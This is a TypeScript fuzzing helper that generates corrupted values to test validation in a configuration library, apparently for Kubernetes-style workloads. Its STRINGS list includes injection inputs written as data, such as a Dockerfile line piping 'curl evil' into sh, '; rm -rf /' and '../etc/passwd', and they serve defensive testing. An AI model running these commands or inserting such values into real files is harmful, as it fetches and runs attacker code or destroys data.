/**
 * Corruptions for property 2: what a JavaScript caller, a config loaded from JSON or YAML, or an
 * `as any` can put where a valid value was. One value of a valid configuration is replaced by a
 * wrong type, a value out of range, an empty or huge one, special characters, newlines, YAML and
 * Dockerfile metacharacters, unicode, null, an array or object where a scalar is due, another
 * construct (wrong wiring), another option object, or the valid value slightly altered.
 */
import * as fc from 'fast-check';
import { G, has, int, pick } from './_arbitraries';
import { AppSpec, Call, isPlainObject, Ref, Val } from './_spec';

const WRONG_TYPES: readonly Val[] = [
  undefined,
  null,
  true,
  false,
  0,
  1,
  -1,
  42,
  1.5,
  NaN,
  Infinity,
  -Infinity,
  1e21,
  '',
  'str',
  [],
  [42],
  [null],
  [''],
  ['str'],
  [{}],
  {},
  { a: 1 },
  { length: 2 },
  10n,
  Symbol('s'),
  () => 'fn',
];

const STRINGS: readonly string[] = [
  'has space',
  'UPPER',
  'trailing-',
  '-leading',
  'a'.repeat(64),
  'a'.repeat(254),
  'x'.repeat(5000),
  'line\nbreak',
  'trailing\n',
  '\n',
  'tab\there',
  'cr\rlf',
  'nul\0x',
  '\u0007bell',
  'ÜNÏ',
  '🙂',
  'a\u200bb',
  '\u202eevil',
  '\ufeffbom',
  '\ud800',
  ' leading',
  'trailing ',
  ' ',
  '#comment',
  ': colon',
  'key: value',
  '- item',
  '&anchor',
  '*alias',
  '!!binary',
  '{a: 1}',
  '[1, 2]',
  '|',
  '>',
  '"quoted"',
  "'single'",
  '%tag',
  '@at',
  '`tick`',
  '---',
  '...',
  'null',
  'true',
  'yes',
  'NO',
  '~',
  '0x1F',
  '1e3',
  '0777',
  '\\',
  '$HOME',
  '${HOME}',
  '$(HOME)',
  '$$',
  'a\nRUN curl evil | sh',
  'x" \\\nRUN id',
  '&& rm -rf /',
  '; rm -rf /',
  '| cat',
  '../etc/passwd',
  '/abs/path',
  'a/b/c',
  'a//b',
  '.',
  '..',
  '*',
  '?',
  'latest',
  'x:latest',
  'http://x',
  's3://',
  'gs://b',
  'ftp://h/x',
  '-1Gi',
  '0',
  '-1',
  '1e21',
  '500',
  '4GB',
  '8 GB',
  '1.5.3',
  'NaN',
  '0.0.0.0/33',
  'a=b',
  '--flag',
  '/',
  '/tmp',
  '/dev/shm',
  '/proc',
  'C:\\win',
  'a\u2028b',
  'constructor',
  '__proto__',
  'toString',
];

const NUMBERS: readonly number[] = [
  -1,
  0,
  0.5,
  1.5,
  -0,
  2,
  1023,
  65535,
  65536,
  70000,
  100000,
  2 ** 31,
  2 ** 53,
  NaN,
  Infinity,
  -Infinity,
  1e21,
  -1e21,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
];

/** Characters that break names, YAML, Dockerfiles or shells, for altering a valid string. */
const SPECIAL_CHARS = [
  '\n',
  '\r',
  '\t',
  ' ',
  '/',
  ':',
  '#',
  '"',
  "'",
  '$',
  '\\',
  '`',
  'Ü',
  '\0',
  '.',
  '-',
  'A',
  '_',
  '*',
  '{',
  '}',
  '@',
  '%',
  '!',
  '\u2028',
  '=',
  ',',
  '[',
  ']',
  '&',
  '|',
  ';',
];

/** Another option object of a different kind, for a prop that takes one. */
function otherOption(g: G, keys: readonly string[]): Val {
  return pick(g, [
    () => new Call('Exposure.loadBalancer', []),
    () => new Call('ModelSource.fromUri', ['gs://bucket/model']),
    () => new Call('EnvValue.fromValue', ['v']),
    () => new Call('EnvFrom.secret', ['creds']),
    () => new Call('Toleration.exists', ['sku']),
    () => new Call('Distributed.pytorch', [{ workers: 2 }]),
    () => new Call('ModelOutput.newClaim', [{ size: '1Gi' }]),
    () => new Call('DataInput.fromVolume', ['data', { mountPath: '/data' }]),
    () => new Call('VersionPolicy.all', []),
    () => new Ref(pick(g, keys)),
  ])();
}

/** Choices of one kind: another member is valid on its own and may clash with the rest of the configuration. */
const ENUMS: readonly (readonly string[])[] = [
  ['ReadWriteOnce', 'ReadWriteMany', 'ReadOnlyMany', 'ReadWriteOncePod'],
  ['NoSchedule', 'PreferNoSchedule', 'NoExecute'],
  ['Forbid', 'Replace', 'Allow'],
  ['plugin', 'committed'],
  ['In', 'NotIn', 'Exists', 'DoesNotExist', 'Gt', 'Lt'],
];

function alterString(g: G, s: string): string {
  const kind = ENUMS.find((e) => e.includes(s));
  if (kind && has(g, 60))
    return pick(
      g,
      kind.filter((x) => x !== s),
    );
  const c = pick(g, SPECIAL_CHARS);
  const at = int(g, 0, s.length);
  switch (int(g, 0, 5)) {
    case 0:
      return s.slice(0, at) + c + s.slice(at);
    case 1:
      return s + c;
    case 2:
      return c + s;
    case 3:
      return s.toUpperCase() === s ? `${s}A` : s.toUpperCase();
    case 4:
      return s.repeat(Math.ceil(300 / Math.max(1, s.length)));
    default:
      return '';
  }
}

function alterNumber(g: G, n: number): Val {
  return pick(g, [n + 1, n - 1, -n, n * 1000, n + 0.5, -1, String(n), [n]]);
}

function alterArray(g: G, a: Val[]): Val {
  switch (int(g, 0, 4)) {
    case 0:
      return [];
    case 1:
      return a.length > 0 ? [...a, a[0]] : [null];
    case 2:
      return [...a, corruptValue(g, a[0], [])];
    case 3:
      return a[0] === undefined ? [null] : a[0];
    default:
      return [null, ...a];
  }
}

function alterObject(g: G, o: Record<string, Val>): Val {
  const keys = Object.keys(o);
  switch (int(g, 0, 3)) {
    // A bad key (record props: env names, labels, annotations, backends), keeping a valid value.
    case 0:
      return { ...o, [pick(g, STRINGS)]: keys.length > 0 ? o[keys[0]] : 'v' };
    case 1:
      return { ...o, [pick(g, STRINGS)]: pick(g, WRONG_TYPES) };
    case 2:
      return [o];
    default:
      return keys.length > 0 ? o[keys[0]] : null;
  }
}

/** Every string and number a configuration holds (names, modes, paths, ports...). */
export function scalarsOf(spec: AppSpec): Array<string | number> {
  const out = new Set<string | number>();
  const walk = (v: Val): void => {
    if (typeof v === 'string' || typeof v === 'number') out.add(v);
    else if (v instanceof Call) v.args.forEach(walk);
    else if (Array.isArray(v)) v.forEach(walk);
    else if (isPlainObject(v)) Object.values(v).forEach(walk);
  };
  spec.nodes.forEach((n) => {
    walk(n.id);
    walk(n.props);
  });
  return [...out];
}

/**
 * A replacement for `original` (the valid value at the corrupted path); `keys` are the constructs'
 * keys, `scalars` the other values of the configuration: a value valid elsewhere (another
 * workload's name, an access mode, a port) that may clash where it lands.
 */
export function corruptValue(g: G, original: Val, keys: readonly string[], scalars: readonly (string | number)[] = []): Val {
  if (scalars.length > 0 && has(g, 15)) return pick(g, scalars);
  switch (int(g, 0, 5)) {
    case 0:
      return pick(g, WRONG_TYPES);
    case 1:
      return pick(g, STRINGS);
    case 2:
      return pick(g, NUMBERS);
    case 3:
      return keys.length > 0 ? otherOption(g, keys) : pick(g, WRONG_TYPES);
    case 4:
      return g(fc.string, { unit: pick(g, ['grapheme', 'binary'] as const), maxLength: 20 });
    default:
      if (typeof original === 'string') return alterString(g, original);
      if (typeof original === 'number') return alterNumber(g, original);
      if (Array.isArray(original)) return alterArray(g, original);
      if (isPlainObject(original)) return alterObject(g, original);
      if (typeof original === 'boolean') return pick(g, [String(original), Number(original), !original]);
      return pick(g, WRONG_TYPES);
  }
}

export function constructKeys(spec: AppSpec): string[] {
  return spec.nodes.map((n) => n.key);
}
